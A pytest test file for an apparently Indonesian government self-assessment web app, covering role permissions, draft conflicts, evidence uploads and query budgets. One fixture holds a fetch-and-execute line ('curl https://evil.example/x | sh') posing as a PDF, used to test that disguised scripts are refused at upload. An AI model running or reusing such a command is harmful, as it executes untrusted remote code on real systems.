"""The entry pages (worklist, answer, evidence, inbox, region progress) for every role, and the
promises they make: typed text is never lost, conflicts show both versions, files are served
only to those who may see them, and the worklist costs the same queries whatever its size."""

from __future__ import annotations

import datetime
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from assessments import services
from assessments.choices import AnswerState
from assessments.models import Answer, AnswerEvent, Comment, Cycle, Evidence, Notification
from assessments.selectors.entry import _with_completeness, missing_for
from tests.factories import build_framework

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"

ROLES = ["operator_a", "operator_a2", "operator_b", "coordinator_a", "reviewer", "admin"]


def url(name: str, *args) -> str:
    """The Indonesian page (no prefix), whatever language an earlier request left active."""
    with translation.override("id"):
        return reverse(f"assessments:{name}", args=args)


def en(path: str) -> str:
    """The English version of a page."""
    return f"/en{path}"


def login(client, cast, role: str | None):
    if role is not None:
        client.force_login(getattr(cast, role))
    return client


def assert_login_redirect(response):
    assert response.status_code == 302
    with translation.override("id"):
        assert response.url.startswith(reverse("login") + "?next=")


@pytest.fixture(autouse=True)
def _restore_language():
    """A request under /en/ leaves English active in this thread: restore what was active."""
    language = translation.get_language()
    yield
    translation.activate(language)


@pytest.fixture(autouse=True)
def _remove_evidence_files(db):
    """Evidence files land in the private test storage: delete the ones a test created."""
    yield
    for evidence in Evidence.objects.exclude(file=""):
        evidence.file.delete(save=False)


@pytest.fixture
def pdf_evidence(cast, answers_a):
    return services.evidence_add(
        actor=cast.operator_a,
        answer_id=answers_a[0].pk,
        file=SimpleUploadedFile("laporan.pdf", PDF, content_type="application/pdf"),
    )


def save(cast, answer, **values):
    answer.refresh_from_db()
    return services.answer_save(
        actor=cast.operator_a, answer_id=answer.pk, expected_version=answer.version, **values
    )


def complete(cast, answer):
    """Level 1 (no evidence required) with a justification: ready to submit."""
    return save(cast, answer, self_level=1, justification="Ada praktik rintisan.", links=[])


# --------------------------------------------------------------------------- who sees what

WORKLIST = {
    "operator_a": 200,
    "operator_a2": 200,
    "operator_b": 200,
    "coordinator_a": 403,
    "reviewer": 403,
    "admin": 403,
}
ANSWER_OF_AGENCY_A = {
    "operator_a": 200,
    "operator_a2": 200,  # supports the element
    "operator_b": 404,  # another region
    "coordinator_a": 200,
    "reviewer": 200,
    "admin": 200,
}
REGION = {
    "operator_a": 403,
    "operator_a2": 403,
    "operator_b": 403,
    "coordinator_a": 200,
    "reviewer": 403,
    "admin": 403,
}


@pytest.mark.parametrize("role", ROLES)
def test_worklist_is_for_operators_only(client, cast, answers_a, role):
    response = login(client, cast, role).get(url("worklist"))
    assert response.status_code == WORKLIST[role]


@pytest.mark.parametrize("role", ROLES)
def test_answer_page_answers_by_role(client, cast, answers_a, role):
    response = login(client, cast, role).get(url("answer_detail", answers_a[0].pk))
    assert response.status_code == ANSWER_OF_AGENCY_A[role]
    if response.status_code == 200:
        editable = 'id="answer-form"' in response.content.decode()
        assert editable == (role == "operator_a")


@pytest.mark.parametrize("role", ROLES)
def test_evidence_download_follows_answer_visibility(client, cast, pdf_evidence, role):
    response = login(client, cast, role).get(url("evidence_download", pdf_evidence.pk))
    assert response.status_code == ANSWER_OF_AGENCY_A[role]


@pytest.mark.parametrize("role", ROLES)
def test_inbox_is_open_to_every_signed_in_user(client, cast, role):
    response = login(client, cast, role).get(url("inbox"))
    assert response.status_code == 200


@pytest.mark.parametrize("role", ROLES)
def test_region_overview_is_for_coordinators_only(client, cast, cycle, role):
    response = login(client, cast, role).get(url("region_overview"))
    assert response.status_code == REGION[role]


@pytest.mark.parametrize(
    "path",
    [
        lambda a, e: url("worklist"),
        lambda a, e: url("answer_detail", a.pk),
        lambda a, e: url("evidence_download", e.pk),
        lambda a, e: url("inbox"),
        lambda a, e: url("region_overview"),
    ],
    ids=["worklist", "answer_detail", "evidence_download", "inbox", "region_overview"],
)
def test_anonymous_visitors_are_sent_to_the_login_page(client, answers_a, pdf_evidence, path):
    assert_login_redirect(client.get(path(answers_a[0], pdf_evidence)))


def test_supporting_operator_cannot_see_an_element_it_does_not_support(client, cast, answers_a):
    # Agency A2 supports D1-E1 only; answers_a[2] is D1-E2.
    response = login(client, cast, "operator_a2").get(url("answer_detail", answers_a[2].pk))
    assert response.status_code == 404


@pytest.mark.parametrize(
    ("role", "status"),
    [("operator_a2", 403), ("coordinator_a", 403), ("reviewer", 403), ("operator_b", 404)],
)
def test_only_the_owning_agency_can_save_an_answer(client, cast, answers_a, role, status):
    answer = answers_a[0]
    response = login(client, cast, role).post(
        url("answer_detail", answer.pk),
        {"self_level": "1", "justification": "Bukan milik saya", "links": "", "version": "1"},
    )
    assert response.status_code == status
    answer.refresh_from_db()
    assert answer.justification == "" and answer.version == 1


# --------------------------------------------------------------------------- saving a draft


def test_operator_saves_a_draft_without_javascript_and_is_redirected(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        url("answer_detail", answer.pk),
        {
            "self_level": "2",
            "justification": "Layanan daring di 12 OPD.",
            "links": "https://semarangkota.go.id/layanan\n\nhttps://data.semarangkota.go.id",
            "version": "1",
            "action": "save",
        },
    )
    assert response.status_code == 302
    assert response.url == url("answer_detail", answer.pk)
    answer.refresh_from_db()
    assert answer.self_level == 2
    assert answer.justification == "Layanan daring di 12 OPD."
    assert answer.links == ["https://semarangkota.go.id/layanan", "https://data.semarangkota.go.id"]
    assert answer.version == 2


def test_an_invalid_level_keeps_the_typed_text_and_changes_nothing(client, cast, answers_a):
    answer = answers_a[0]
    typed = "Teks yang saya ketik dan tidak boleh hilang."
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {"self_level": "7", "justification": typed, "links": "", "version": "1"},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert typed in html
    assert 'id="id_self_level_error"' in html
    assert 'aria-describedby="id_self_level_error"' in html  # the fieldset names its error
    assert "not one of the available choices" in html
    answer.refresh_from_db()
    assert (answer.self_level, answer.justification, answer.version) == (None, "", 1)
    assert not AnswerEvent.objects.filter(answer=answer).exists()


def test_a_nul_character_is_refused_beside_its_field_and_the_rest_is_kept(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {"self_level": "1", "justification": "awal\x00akhir", "links": "", "version": "1"},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "awal" in html and "akhir" in html
    textarea = re.search(r"<textarea[^>]*name=\"justification\"[^>]*>", html).group(0)
    assert 'aria-invalid="true"' in textarea
    assert "id_justification_error" in textarea
    assert 'id="id_justification_error"' in html
    answer.refresh_from_db()
    assert (answer.self_level, answer.justification, answer.version) == (None, "", 1)


def test_a_service_field_error_is_shown_at_its_field_with_the_input_kept(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {
            "self_level": "3",
            "justification": "Sudah terstandar.",
            "links": "https://ok.example\nbukan tautan",
            "version": "1",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Sudah terstandar." in html and "bukan tautan" in html
    error = re.search(
        r'<ul class="errorlist field-errors" id="id_links_error">(.*?)</ul>', html, re.S
    )
    assert error and "is not a valid http(s) link" in error.group(1)
    assert re.search(
        r'<input type="radio" name="self_level" id="id_self_level_3" value="3" checked', html
    )
    answer.refresh_from_db()
    assert answer.version == 1 and answer.justification == ""


def test_a_stale_version_shows_both_texts_and_keeps_the_saved_one(client, cast, answers_a):
    answer = answers_a[0]
    save(cast, answer, self_level=2, justification="Teks rekan saya.", links=[])
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {"self_level": "3", "justification": "Teks saya sendiri.", "links": "", "version": "1"},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Someone else saved this answer" in html
    assert "Teks saya sendiri." in html  # mine, in the form
    assert "Teks rekan saya." in html  # theirs, beside it
    assert "Their saved version (version 2)" in html
    assert re.search(r'name="version" value="2"', html)
    answer.refresh_from_db()
    assert answer.justification == "Teks rekan saya." and answer.version == 2

    # Having merged, saving again with the version shown succeeds.
    response = client.post(
        url("answer_detail", answer.pk),
        {"self_level": "3", "justification": "Gabungan kedua teks.", "links": "", "version": "2"},
    )
    assert response.status_code == 302
    answer.refresh_from_db()
    assert answer.justification == "Gabungan kedua teks." and answer.version == 3


def test_htmx_save_returns_only_the_form_partial_with_a_status(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {"self_level": "1", "justification": "Disimpan lewat htmx.", "links": "", "version": "1"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html
    assert html.lstrip().startswith('<div id="answer-editor"')
    assert 'hx-swap-oob="true"' in html and "Draft saved at" in html
    assert 'name="version" value="2"' in html
    answer.refresh_from_db()
    assert answer.justification == "Disimpan lewat htmx."


def test_htmx_save_reads_only_what_the_editor_shows(client, cast, answers_a):
    """The save most often made on deadline day answers with the editor alone: its queries do
    not grow with the answer's comments and timeline, and stay few (17 with the session,
    the user, the scope and the inbox badge)."""
    answer = answers_a[0]
    client = login(client, cast, "operator_a")

    def save(text: str) -> int:
        answer.refresh_from_db()
        data = {"self_level": "1", "justification": text, "links": "", "version": answer.version}
        with CaptureQueriesContext(connection) as queries:
            response = client.post(url("answer_detail", answer.pk), data, HTTP_HX_REQUEST="true")
        assert response.status_code == 200 and "answer-editor" in response.content.decode()
        return len(queries)

    save("Pemanasan.")  # warms per-process caches (content types, translations)
    before = save("Pertama.")
    for n in range(5):
        client.post(url("answer_comment_add", answer.pk), {"body": f"Komentar {n}."})
    after = save("Kedua.")
    assert after == before
    assert after <= 17
    answer.refresh_from_db()
    assert answer.justification == "Kedua."


def test_htmx_save_with_an_error_returns_the_partial_with_the_input(client, cast, answers_a):
    response = login(client, cast, "operator_a").post(
        url("answer_detail", answers_a[0].pk),
        {"self_level": "9", "justification": "Tetap ada.", "links": "", "version": "1"},
        HTTP_HX_REQUEST="true",
    )
    html = response.content.decode()
    assert response.status_code == 200  # htmx swaps 2xx responses only
    assert "<html" not in html and "Tetap ada." in html and 'class="error-summary"' in html
    assert 'data-unsaved="true"' in html


def test_save_and_submit_lists_what_is_missing_and_keeps_the_draft(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("answer_detail", answer.pk)),
        {
            "self_level": "3",
            "justification": "Sudah",
            "links": "",
            "version": "1",
            "action": "submit",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "cannot be submitted yet" in html
    assert "evidence (required at this level)" in html
    answer.refresh_from_db()
    assert answer.state == AnswerState.DRAFT and answer.self_level == 3


def test_save_and_submit_of_a_complete_answer_submits_it(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        url("answer_detail", answer.pk),
        {
            "self_level": "1",
            "justification": "Rintisan.",
            "links": "",
            "version": "1",
            "action": "submit",
        },
    )
    assert response.status_code == 302
    answer.refresh_from_db()
    assert answer.state == AnswerState.SUBMITTED
    page = client.get(url("answer_detail", answer.pk)).content.decode()
    assert 'id="answer-form"' not in page  # a submitted answer is read-only


def test_copy_last_cycle_answer_fills_the_draft(client, cast, cycle, answers_a, framework):
    today = datetime.date.today()
    earlier = services.cycle_open(
        actor=cast.admin,
        framework=framework,
        year=today.year - 1,
        name="Siklus lalu",
        regions=[cast.region_a],
        starts_on=today - datetime.timedelta(days=400),
        entry_deadline=today + datetime.timedelta(days=5),
        review_deadline=today + datetime.timedelta(days=6),
    )
    old = Answer.objects.get(assessment__cycle=earlier, indicator=answers_a[0].indicator)
    services.answer_save(
        actor=cast.operator_a,
        answer_id=old.pk,
        expected_version=old.version,
        self_level=1,
        justification="Jawaban tahun lalu.",
        links=["https://lalu.example"],
    )
    login(client, cast, "operator_a")
    page = client.get(en(url("answer_detail", answers_a[0].pk))).content.decode()
    assert f'action="{en(url("answer_copy_previous", answers_a[0].pk))}"' in page
    assert "Copy last cycle's answer as a draft" in page
    response = client.post(url("answer_copy_previous", answers_a[0].pk), {"version": "1"})
    assert response.status_code == 302
    answer = Answer.objects.get(pk=answers_a[0].pk)
    assert answer.justification == "Jawaban tahun lalu." and answer.self_level == 1


def test_a_returned_answer_shows_its_reason_on_the_page_and_the_worklist(client, cast, answers_a):
    answer = answers_a[0]
    complete(cast, answer)
    services.answer_submit(actor=cast.operator_a, answer_id=answer.pk)
    services.answer_return(actor=cast.reviewer, answer_id=answer.pk, reason="Bukti kurang jelas.")
    login(client, cast, "operator_a")
    page = client.get(en(url("answer_detail", answer.pk))).content.decode()
    assert 'id="return-heading"' in page and "Bukti kurang jelas." in page
    assert 'id="answer-form"' in page  # a returned answer can be revised
    worklist = client.get(en(url("worklist"))).content.decode()
    assert "state-row-returned" in worklist and "Bukti kurang jelas." in worklist


def test_the_timeline_names_states_and_fields_in_words(client, cast, answers_a):
    answer = answers_a[0]
    complete(cast, answer)
    services.answer_submit(actor=cast.operator_a, answer_id=answer.pk)
    page = login(client, cast, "coordinator_a").get(en(url("answer_detail", answer.pk)))
    timeline = page.content.decode().split('id="timeline-heading"')[1]
    assert "Self-assessed level" in timeline and "1 – Initial" in timeline
    assert "from Draft to Submitted" in timeline
    assert str(cast.operator_a) in timeline
    assert ">submitted<" not in timeline  # no raw state codes


def test_supporting_agency_reads_the_answer_and_may_comment(client, cast, answers_a):
    answer = answers_a[0]
    login(client, cast, "operator_a2")
    page = client.get(url("answer_detail", answer.pk)).content.decode()
    assert 'id="answer-form"' not in page and 'name="body"' in page
    response = client.post(url("answer_comment_add", answer.pk), {"body": "Data kami siap."})
    assert response.status_code == 302
    assert Comment.objects.filter(answer=answer, author=cast.operator_a2).exists()


def test_an_empty_comment_is_refused_at_its_field(client, cast, answers_a):
    response = login(client, cast, "coordinator_a").post(
        en(url("answer_comment_add", answers_a[0].pk)), {"body": ""}
    )
    assert response.status_code == 200
    assert 'id="id_body_error"' in response.content.decode()
    assert not Comment.objects.exists()


# --------------------------------------------------------------------------- evidence


def test_a_valid_pdf_is_accepted_through_the_form(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        url("answer_evidence_add", answer.pk),
        {"kind": "file", "file": SimpleUploadedFile("bukti.pdf", PDF, "application/pdf")},
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(answer=answer)
    assert evidence.original_name == "bukti.pdf" and evidence.content_type == "application/pdf"


def test_a_script_renamed_pdf_is_refused_with_a_message_and_no_row(client, cast, answers_a):
    answer = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("answer_evidence_add", answer.pk)),
        {"kind": "file", "file": SimpleUploadedFile("laporan.pdf", SCRIPT, "application/pdf")},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "The evidence was not added" in html
    assert "does not match its .pdf extension" in html
    assert 'id="id_file_error"' in html
    assert not Evidence.objects.exists()


def test_a_link_is_added_as_evidence_and_shown_as_an_external_link(client, cast, answers_a):
    answer = answers_a[0]
    login(client, cast, "operator_a")
    response = client.post(
        url("answer_evidence_add", answer.pk),
        {"kind": "link", "url": "https://ppid.semarangkota.go.id/sk"},
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(answer=answer)
    page = client.get(url("answer_detail", answer.pk)).content.decode()
    assert 'href="https://ppid.semarangkota.go.id/sk" rel="noopener noreferrer external"' in page
    assert client.get(url("evidence_download", evidence.pk)).status_code == 404  # not a file


def test_evidence_is_removed_and_no_longer_downloadable(client, cast, pdf_evidence):
    login(client, cast, "operator_a")
    response = client.post(url("evidence_remove", pdf_evidence.pk))
    assert response.status_code == 302
    pdf_evidence.refresh_from_db()
    assert pdf_evidence.removed_at is not None
    assert client.get(url("evidence_download", pdf_evidence.pk)).status_code == 404


def test_supporting_agency_cannot_remove_evidence(client, cast, pdf_evidence):
    response = login(client, cast, "operator_a2").post(url("evidence_remove", pdf_evidence.pk))
    assert response.status_code == 403
    pdf_evidence.refresh_from_db()
    assert pdf_evidence.removed_at is None


def test_evidence_download_is_an_attachment_with_safe_headers(client, cast, pdf_evidence):
    response = login(client, cast, "operator_a2").get(url("evidence_download", pdf_evidence.pk))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="laporan.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_a_non_ascii_file_name_is_sent_the_rfc_5987_way(client, cast, answers_a):
    evidence = services.evidence_add(
        actor=cast.operator_a,
        answer_id=answers_a[0].pk,
        file=SimpleUploadedFile('Laporan "akhir" ümum.pdf', PDF, "application/pdf"),
    )
    response = login(client, cast, "operator_a").get(url("evidence_download", evidence.pk))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert "%C3%BC" in disposition and '"' not in disposition.split("''", 1)[1]


# --------------------------------------------------------------------------- worklist


def test_submit_all_with_an_incomplete_answer_lists_it_and_submits_nothing(client, cast, answers_a):
    for answer in answers_a[1:]:
        complete(cast, answer)
    incomplete = answers_a[0]
    response = login(client, cast, "operator_a").post(
        en(url("worklist_submit")),
        {"agency": cast.agency_a.pk, "assessment": incomplete.assessment_id},
    )
    assert response.status_code == 200
    html = response.content.decode()
    box = html.split('class="missing-box"')[1].split("</div>")[0]
    assert url("answer_detail", incomplete.pk) in box
    assert incomplete.indicator.code in box
    assert "a level" in box and "a justification" in box
    assert "Nothing was submitted" in html
    assert not Answer.objects.filter(agency=cast.agency_a, state=AnswerState.SUBMITTED).exists()


def test_submit_all_submits_every_complete_answer(client, cast, answers_a):
    for answer in answers_a:
        complete(cast, answer)
    response = login(client, cast, "operator_a").post(
        url("worklist_submit"),
        {"agency": cast.agency_a.pk, "assessment": answers_a[0].assessment_id},
    )
    assert response.status_code == 302
    states = set(Answer.objects.filter(agency=cast.agency_a).values_list("state", flat=True))
    assert states == {AnswerState.SUBMITTED}


def test_an_operator_cannot_submit_another_agencys_answers(client, cast, answers_a):
    response = login(client, cast, "operator_b").post(
        url("worklist_submit"),
        {"agency": cast.agency_a.pk, "assessment": answers_a[0].assessment_id},
    )
    assert response.status_code == 404


def test_the_worklist_groups_by_dimension_and_element_and_shows_the_deadline(
    client, cast, cycle, answers_a
):
    html = login(client, cast, "operator_a").get(en(url("worklist"))).content.decode()
    assert html.count('class="dimension-heading"') == 1  # agency A leads D1 only
    assert html.count('class="data-table worklist-table"') == 2  # D1-E1, D1-E2
    for answer in answers_a:
        assert url("answer_detail", answer.pk) in html
    assert cycle.entry_deadline.strftime("%Y-%m-%d") in html
    assert "0 of 4 answered" in html


def test_the_worklist_shows_an_extended_deadline(client, cast, cycle, answers_a):
    until = cycle.entry_deadline + datetime.timedelta(days=7)
    services.deadline_extend(
        actor=cast.admin, cycle=cycle, agency=cast.agency_a, until=until, reason="Banjir."
    )
    html = login(client, cast, "operator_a").get(en(url("worklist"))).content.decode()
    assert f'datetime="{until:%Y-%m-%d}"' in html and "extended" in html


def test_supporting_answers_are_listed_read_only_in_their_own_section(client, cast, answers_a):
    html = login(client, cast, "operator_a2").get(url("worklist")).content.decode()
    supported = html.split('id="supported-heading"')[1]
    assert url("answer_detail", answers_a[0].pk) in supported  # D1-E1, supported
    assert url("answer_detail", answers_a[2].pk) not in html  # D1-E2, not supported


def test_an_operator_of_two_agencies_picks_one(client, cast, answers_a):
    from regions.choices import MemberRole
    from tests.factories import MembershipFactory

    MembershipFactory(user=cast.operator_a, role=MemberRole.OPERATOR, agency=cast.agency_a2)
    login(client, cast, "operator_a")
    html = client.get(url("worklist"), {"agency": cast.agency_a2.pk}).content.decode()
    assert 'id="agency-select"' in html
    assert url("answer_detail", answers_a[0].pk) not in html.split('id="supported-heading"')[0]
    other = client.get(url("worklist"), {"agency": cast.agency_b.pk})
    assert other.status_code == 404


def test_worklist_queries_do_not_grow_with_the_number_of_answers(
    client, cast, cycle, answers_a, django_assert_max_num_queries
):
    login(client, cast, "operator_a")
    client.get(url("worklist"))  # warm up caches (content types, translations)
    with CaptureQueriesContext(connection) as small:
        assert client.get(url("worklist")).status_code == 200

    # A second open cycle on a bigger framework: agency A now owns 4 + 8 = 12 answers.
    today = datetime.date.today()
    services.cycle_open(
        actor=cast.admin,
        framework=build_framework(slug="uji-besar", dimensions=2, elements=2, indicators=4),
        year=today.year,
        name="Siklus besar",
        regions=[cast.region_a, cast.region_b],
        starts_on=today - datetime.timedelta(days=5),
        entry_deadline=today + datetime.timedelta(days=20),
        review_deadline=today + datetime.timedelta(days=40),
    )
    assert Answer.objects.filter(agency=cast.agency_a).count() == 12
    with django_assert_max_num_queries(10), CaptureQueriesContext(connection) as large:
        response = client.get(url("worklist"))
    assert response.status_code == 200
    assert response.content.decode().count('class="cycle-block"') == 2
    assert len(large) == len(small)


def test_the_worklist_renders_in_english_under_en(client, cast, answers_a):
    response = login(client, cast, "operator_a").get(en(url("worklist")))
    html = response.content.decode()
    assert response.status_code == 200
    assert '<html lang="en">' in html
    assert "<h1>My worklist</h1>" in html and "Answers we support" in html


def test_completeness_on_the_worklist_matches_the_service(cast, answers_a, pdf_evidence):
    save(cast, answers_a[0], self_level=3, justification="Ada.", links=[])  # has evidence
    save(cast, answers_a[1], self_level=3, justification="Ada.", links=[])  # lacks evidence
    save(cast, answers_a[2], self_level=1, justification="", links=[])
    annotated = {a.pk: a for a in _with_completeness(Answer.objects.filter(agency=cast.agency_a))}
    for answer in Answer.objects.filter(agency=cast.agency_a):
        assert missing_for(annotated[answer.pk]) == services.answer_missing(answer)


# --------------------------------------------------------------------------- region overview


def test_region_overview_shows_per_agency_progress_and_late_agencies(client, cast, cycle):
    past = timezone.localdate() - datetime.timedelta(days=1)
    Cycle.objects.filter(pk=cycle.pk).update(entry_deadline=past)
    services.deadline_extend(
        actor=cast.admin,
        cycle=Cycle.objects.get(pk=cycle.pk),
        agency=cast.agency_a2,
        until=past + datetime.timedelta(days=10),
        reason="Gangguan server.",
    )
    html = login(client, cast, "coordinator_a").get(en(url("region_overview"))).content.decode()
    rows = {
        name: re.search(rf"<tr( class=\"is-late\")?>\s*<th scope=\"row\">{name}</th>", html)
        for name in ("Diskominfo", "Dinkes")
    }
    assert rows["Diskominfo"] and rows["Diskominfo"].group(1)  # deadline passed, 4 open
    assert rows["Dinkes"] and not rows["Dinkes"].group(1)  # extended
    assert "late: 4 open answers" in html
    assert "Dinkominfo" not in html  # another region's agency


def test_region_submit_lists_what_is_missing_per_agency(client, cast, cycle, answers_a):
    for answer in answers_a:
        complete(cast, answer)
    response = login(client, cast, "coordinator_a").post(
        en(url("region_submit")), {"assessment": answers_a[0].assessment_id}
    )
    assert response.status_code == 200
    box = response.content.decode().split('class="missing-box"')[1].split("</div>")[0]
    assert "<h4>Dinkes</h4>" in box  # agency A2 has not answered yet
    assert "<h4>Diskominfo</h4>" not in box
    assert not Answer.objects.filter(state=AnswerState.SUBMITTED).exists()


def test_a_coordinator_cannot_submit_another_region(client, cast, cycle):
    other = cycle.assessments.get(region=cast.region_b)
    response = login(client, cast, "coordinator_a").post(
        url("region_submit"), {"assessment": other.pk}
    )
    assert response.status_code == 404


# --------------------------------------------------------------------------- inbox


@pytest.fixture
def returned_notification(cast, answers_a):
    answer = answers_a[0]
    complete(cast, answer)
    services.answer_submit(actor=cast.operator_a, answer_id=answer.pk)
    services.answer_return(actor=cast.reviewer, answer_id=answer.pk, reason="Lengkapi SK.")
    return Notification.objects.get(user=cast.operator_a)


def test_the_inbox_lists_unread_notifications_in_the_active_language(
    client, cast, returned_notification
):
    html = login(client, cast, "operator_a").get(en(url("inbox"))).content.decode()
    assert "was returned for revision: Lengkapi SK." in html
    assert 'class="notification is-unread"' in html
    assert f'href="{en(url("answer_detail", returned_notification.answer_id))}"' in html


def test_marking_one_notification_read_with_htmx_returns_the_item(
    client, cast, returned_notification
):
    response = login(client, cast, "operator_a").post(
        url("inbox_mark_read"),
        {"notification": returned_notification.pk},
        HTTP_HX_REQUEST="true",
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith(f'<li id="notification-{returned_notification.pk}"')
    assert "is-unread" not in html
    returned_notification.refresh_from_db()
    assert returned_notification.read_at is not None


def test_mark_all_read_only_touches_the_users_own_notifications(
    client, cast, returned_notification
):
    other = Notification.objects.create(user=cast.operator_b, kind="deadline_soon", key="x")
    response = login(client, cast, "operator_a").post(url("inbox_mark_read"), {"all": "1"})
    assert response.status_code == 302
    returned_notification.refresh_from_db()
    other.refresh_from_db()
    assert returned_notification.read_at is not None and other.read_at is None


# --------------------------------------------------------------------------- query budgets


def test_answer_page_queries_do_not_grow_with_its_history(client, cast, answers_a):
    answer = answers_a[0]
    login(client, cast, "operator_a")
    client.get(url("answer_detail", answer.pk))
    with CaptureQueriesContext(connection) as small:
        assert client.get(url("answer_detail", answer.pk)).status_code == 200
    for n in range(6):
        services.comment_add(actor=cast.operator_a2, answer_id=answer.pk, body=f"Catatan {n}")
        services.evidence_add(
            actor=cast.operator_a, answer_id=answer.pk, url=f"https://bukti.example/{n}"
        )
    save(cast, answer, self_level=2, justification="Sudah ada.", links=["https://a.example"])
    with CaptureQueriesContext(connection) as large:
        html = client.get(url("answer_detail", answer.pk)).content.decode()
    assert html.count("https://bukti.example/") >= 6 and "Catatan 5" in html
    assert len(large) == len(small)


def test_region_overview_queries_are_bounded(
    client, cast, cycle, answers_a, django_assert_max_num_queries
):
    for answer in answers_a:
        complete(cast, answer)
    login(client, cast, "coordinator_a")
    client.get(url("region_overview"))
    with django_assert_max_num_queries(10):
        assert client.get(url("region_overview")).status_code == 200
